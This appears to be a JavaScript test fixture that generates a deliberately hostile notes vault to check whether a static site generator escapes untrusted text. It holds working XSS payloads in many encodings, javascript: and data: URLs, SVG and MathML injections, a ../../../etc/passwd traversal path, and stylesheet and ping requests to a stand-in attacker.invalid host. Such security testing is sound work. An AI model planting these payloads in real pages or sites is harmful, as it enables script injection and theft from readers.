// A vault whose author wants to run something in readers' browsers: attacks at every place where a vault has text.
//
// Each attack calls `alert`, with what is said in no other text of the site.

/** Texts that end what they may stand in: an element, attribute, comment, script, string, template, cell, document. */
export const ATTACKS = [
  `<script>alert("x1")</script>`,
  `"><img src=x onerror=alert("x2")>`,
  `'><svg onload=alert("x3")>`,
  `</script><script>alert("x4")</script>`,
  `</title></style></textarea></template><svg onload=alert("x5")>`,
  `--><!--><img src=x onerror=alert("x6")>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert("x7")</script>`,
  `\u2028alert("x8")\u2029";alert("x8")//';alert("x8")//\${alert("x8")}\\";alert("x8")//`,
  `{{ 7 * 191 }}{% raise %}{# x9 #}{% for x in y %}`,
  `&lt;img src=x onerror=alert("x10")&gt; &#60;script&#62;alert("x10")&#60;/script&#62;`,
  `%3Cscript%3Ealert("x11")%3C/script%3E \\u003cscript\\u003ealert("x11")\\u003c/script\\u003e`,
  `\`;alert("x12");\` x" autofocus onfocus=alert("x12") style=animation-name:x onanimationstart=alert("x12") y="`,
  `\u202e\u2066<img src=x onerror=alert("x13")>\u0000\u0007\u001b[31m\u009b31m`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(&quot;x14&quot;)&gt;">`,
];

/** Addresses that are scripts, in the spellings that browsers understand. */
export const ADDRESSES = [
  `javascript:alert("u1")`,
  `JaVaScRiPt:alert("u2")`,
  `java\tscript:alert("u3")`,
  `\u0001javascript:alert("u4")`,
  `&#106;avascript&colon;alert("u5")`,
  `javascript&#58;alert("u6")`,
  `java&#9;script&Tab;:alert("u7")`,
  `%6Aavascript:alert("u8")`,
  `data:text/html,<script>alert("u9")</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgidTEwIik8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert('u11')"/>`,
  `vbscript:msgbox("u12")`,
  `view-source:javascript:alert("u13")`,
  `feed:javascript:alert("u14")`,
  `blob:null/javascript:alert("u15")`,
  `//javascript:alert("u16")`,
  `x" onclick="alert('u17')`,
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="alert('s1')"><script>alert('s2')</script><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert('s3')&lt;/script>"/></foreignObject><a xlink:href="javascript:alert('s4')"><rect width="80" height="40" fill="#c33"/></a></svg>`;
const DOCUMENT = `<!doctype html><title>x</title><script>alert("d1")</script><img src=x onerror=alert("d2")>`;
const XML = `<?xml version="1.0"?><r><s:script xmlns:s="http://www.w3.org/1999/xhtml">alert("d3")</s:script></r>`;

/** What a folder or file may be called: no slash, no NUL, not too long. */
export const named = (attack) => attack.replaceAll(/[/\0]/g, "").slice(0, 80).replace(/[. ]+$/, "");
const quoted = (text) => JSON.stringify(text);
const oneLine = (text) => text.replaceAll(/[\u2028\u2029\n\0]/g, " ");

/** A note with the attack at each place where a note has text. */
function note(attack, nth) {
  const plain = oneLine(attack);
  return `---
title: ${quoted(attack)}
aliases: [${quoted(`alias ${attack}`)}, ${quoted(`old/${attack}`)}]
tags: [port, ${quoted(`tag${attack}`)}, ${quoted(`nested/${attack}`)}]
description: ${quoted(attack)}
permalink: ${quoted(nth % 2 ? `p${nth}/${attack}` : `../../p${nth}`)}
redirect_from: [${quoted(`was/${attack}`)}, ${quoted(`../../../was${nth}`)}, ${quoted(ADDRESSES[nth % ADDRESSES.length])}]
cssclasses: [${quoted(attack)}]
cover: ${quoted(ADDRESSES[nth % ADDRESSES.length])}
image: ${quoted(attack)}
url: ${quoted(ADDRESSES[(nth + 3) % ADDRESSES.length])}
author: ${quoted(attack)}
created: 2024-01-0${1 + (nth % 9)}
${quoted(`key ${plain}`)}: ${quoted(attack)}
${quoted(plain)}: [${quoted(`[[Target|${plain}]]`)}, ${quoted(plain)}]
link: "[[Target]]"
---
**${plain}** — is ${plain} of [[Target]].

# ${plain}

${plain} [[Target|${plain.replaceAll("|", "")}]] [[${plain}]] [[Target#${plain}]] ![[${plain}]] ![[Target#${plain}|${plain}]]

[${plain}](Target.md "${plain}") [x](<${plain.replaceAll(/[<>]/g, "")}>) ![${plain}](evil.svg "${plain}") <${plain}> [ref][r${nth}] #tag${nth}

[r${nth}]: Target.md '${plain}'

- ${plain}: [[Target]]
- [${plain[0]}] ${plain}
- ${plain} :: ${plain}
- [ ] ${plain} 📅 2026-01-01

label ${plain}:: [[Target]]
(in:: ${plain})

| ${plain.replaceAll("|", "\\|")} | b |
| --- | --- |
| ${plain.replaceAll("|", "\\|")} | [[Target\\|${plain.replaceAll("|", "")}]] |
| 2020-01-01 | ${plain.replaceAll("|", "\\|")} |

> [!${plain}]- ${plain}
> ${plain}

> [!note] ${plain}
> — ${plain}, 2021

\`\`\`${plain.replaceAll("`", "")}
${plain}
\`\`\`

\`\`\`js
${plain}
\`\`\`

\`${plain.replaceAll("`", "")}\` $${plain.replaceAll("$", "")}$ ==${plain}== *${plain}* ~~${plain}~~ %%${plain}%%

$$
\\text{${plain.replaceAll("$", "")}} \\href{javascript:alert("m1")}{x} \\htmlData{onclick=alert("m2")}{x} \\style{x:expression(alert("m3"))}{y}
$$

\`\`\`mermaid
graph LR
  A["${plain.replaceAll('"', "#quot;")}"] -->|"${plain.replaceAll('"', "'")}"| B
  click A "javascript:alert('m4')"
  click B call alert("m5")
\`\`\`

\`\`\`dataview
TABLE "${plain.replaceAll('"', "'")}" AS "${plain.replaceAll('"', "'")}", title, aliases FROM #port WHERE contains(title, "${plain.replaceAll('"', "'")}") OR true
\`\`\`

\`\`\`base
filters: file.hasTag("port")
views:
  - type: cards
    name: ${quoted(plain)}
    order: [file.name, title, description]
\`\`\`

<div class=x onclick='alert("h1")' style="background:url(javascript:alert('h2'))" ${plain}>${plain}</div>

<a href='${ADDRESSES[nth % ADDRESSES.length].replaceAll("'", "&#39;")}'>raw</a> <img src="${ADDRESSES[(nth + 1) % ADDRESSES.length].replaceAll('"', "&quot;")}" alt="${plain.replaceAll('"', "&quot;")}">

A foot.[^${nth}] And another.^[${plain}] The end of ${plain}. ^block${nth}

[^${nth}]: ${plain}
`;
}

const RAW = `# Raw

<script>alert("r1")</script><script src="evil.js"></script><iframe srcdoc="<script>alert('r2')</script>"></iframe><iframe src="evil.html"></iframe>
<object data="evil.svg"></object><embed src="evil.svg"><form action="javascript:alert('r3')"><button formaction="javascript:alert('r4')">go</button><input name=x></form>
<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=javascript:alert('r5')"><link rel=stylesheet href="https://attacker.invalid/x.css"><style>@import url(https://attacker.invalid/y.css);*{background:url(https://attacker.invalid/z)}</style>
<svg><script>alert("r6")</script><a xlink:href="javascript:alert('r7')"><text>x</text></a><animate onbegin=alert("r8") attributeName=x dur=1s></svg>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert('r9')">x</maction></math>
<details open ontoggle=alert("r10")><summary onclick=alert("r11")>x</summary></details><video onerror=alert("r12")><source onerror=alert("r13") src=x></video><audio src=x onerror=alert("r14")></audio>
<p style="position:fixed;inset:0;background:url(https://attacker.invalid/s)">over</p><a href="#" target="_blank" rel="opener" ping="https://attacker.invalid/p">x</a>
<table background="javascript:alert('r15')"><td background="https://attacker.invalid/t">x</td></table><input autofocus onfocus=alert("r16")><body onload=alert("r17")><template><script>alert("r18")</script></template>
<noscript><p title="</noscript><img src=x onerror=alert('r19')>"></noscript><textarea></textarea><img src=x onerror=alert("r20")//><xmp><p title="</xmp><img src=x onerror=alert('r21')>"></xmp>

<div
onclick=alert("r22")
>unclosed <b><i>

![x](javascript:alert("r23")) ![[javascript:alert("r24")]] [[javascript:alert("r25")]] <javascript:alert("r26")> [[x|<img src=x onerror=alert("r27")>]]

${ADDRESSES.map((address) => `- [x](<${address.replaceAll(/[<>\n]/g, "")}>) [y](${address.replaceAll(/[\s()<>]/g, "")}) <a href="${address.replaceAll('"', "&quot;")}">z</a> ![w](<${address.replaceAll(/[<>\n]/g, "")}>) <${address.replaceAll(/[<>\s]/g, "")}>`).join("\n")}
`;

/** The files of the vault: path and text. */
export function hostileVault() {
  const all = ATTACKS.join(" ");
  const files = {
    "Target.md": `---\naliases: [Port of call]\ntags: [port]\n---\n**Target** — where all of them lead.\n\n## ${oneLine(ATTACKS[1])}\n\nThe words of the target.\n`,
    "Raw.md": RAW,
    "Links.md": `[[evil.svg]] ![[evil.svg]] [[evil.html]] ![[evil.html]] [[evil.xml]] [[evil.js]] [[evil.pdf]] ![[evil.pdf]] [[evil.css]] [[Board.canvas]] ![[Board.canvas]] ![[All.base]] [[Target]]\n`,
    "evil.svg": SVG,
    "evil.html": DOCUMENT,
    "evil.xml": XML,
    "evil.js": `alert("j1")`,
    "evil.css": `</style><script>alert("c1")</script>`,
    "evil.pdf": "%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n",
    "Board.canvas": JSON.stringify({
      nodes: ATTACKS.flatMap((attack, nth) => [
        { id: `g${attack}`, type: "group", x: 0, y: nth * 400, width: 900, height: 380, label: attack, background: ADDRESSES[nth], color: `red;background:url(x)${attack}` },
        { id: `t${nth}`, type: "text", text: `${attack} [[Target|${attack}]] [x](${ADDRESSES[nth]})`, x: 10, y: nth * 400 + 10, width: 200, height: 200, color: attack },
        { id: `l${nth}`, type: "link", url: ADDRESSES[nth], x: 250, y: nth * 400 + 10, width: 200, height: 100 },
        { id: `f${nth}`, type: "file", file: nth ? `${named(attack)}.md` : "../../../etc/passwd", subpath: `#${attack}`, x: 500, y: nth * 400 + 10, width: 200, height: 200 },
      ]),
      edges: ATTACKS.map((attack, nth) => ({ id: `e${nth}`, fromNode: `t${nth}`, toNode: `f${nth}`, label: attack, color: attack, fromSide: attack })),
    }),
    "All.base": `filters:\n  and:\n    - file.hasTag("port")\nformulas:\n${ATTACKS.map((attack, nth) => `  ${quoted(`f ${attack}`)}: ${quoted(`link("Target", ${quoted(attack)})`)}\n  g${nth}: ${quoted(`image(${quoted(ADDRESSES[nth])})`)}\n  h${nth}: ${quoted(`html(${quoted(attack)})`)}`).join("\n")}\nproperties:\n  title:\n    displayName: ${quoted(all)}\nviews:\n${ATTACKS.map((attack, nth) => `  - type: ${nth % 2 ? "table" : "cards"}\n    name: ${quoted(attack)}\n    image: note.cover\n    order: [file.name, title, note.author, ${quoted(`formula.f ${attack}`)}, formula.g${nth}, formula.h${nth}]\n    groupBy: {property: note.author, direction: ASC}`).join("\n")}\n`,
    ".obsidian/types.json": JSON.stringify({ types: Object.fromEntries(ATTACKS.map((attack) => [`key ${oneLine(attack)}`, attack])) }),
    ".obsidian/app.json": JSON.stringify({ userIgnoreFilters: ATTACKS, attachmentFolderPath: ATTACKS[0] }),
    "adit.toml": `[site]\ntitle = ${quoted(ATTACKS[0])}\ndescription = ${quoted(ATTACKS[4])}\nbase_url = "https://example.org/notes/"\n\n[security]\ntrust_html = true\n\n[types]\nport = ${quoted(ATTACKS[1])}\n${quoted(ATTACKS[3])} = ${quoted(ATTACKS[3])}\n\n[text]\nsearch = ${quoted(ATTACKS[1])}\nbacklinks_of = ${quoted(`{title} ${ATTACKS[2]}`)}\n`,
    ".adit/templates/note.html": `<script>alert("t1")</script>`,
    ".adit/assets/app.js": `alert("t2")`,
    ".adit/assets/style.css": `</style><script>alert("t3")</script>`,
    ".adit/assets/logo.svg": SVG,
  };
  ATTACKS.forEach((attack, nth) => {
    const name = named(attack);
    files[`${name}.md`] = note(attack, nth);
    files[`${name}/${name}.md`] = `[[Target|${oneLine(attack)}]] and [[${name}]], ![[${name}]], [[Nowhere ${name}]], [[Nowhere ${name}|${oneLine(attack)}]].\n`;
    if (nth < 3) {
      files[`${name}.canvas`] = JSON.stringify({ nodes: [{ id: "1", type: "text", text: attack, x: 0, y: 0, width: 9, height: 9 }], edges: [] });
      files[`${name}.base`] = `views:\n  - type: table\n    name: ${quoted(attack)}\n`;
      files[`${name}.png`] = "no picture";
      files["Links.md"] += `\n![[${name}.png]] [[${name}.png]] ![[${name}.base]]\n`;
    }
  });
  return files;
}
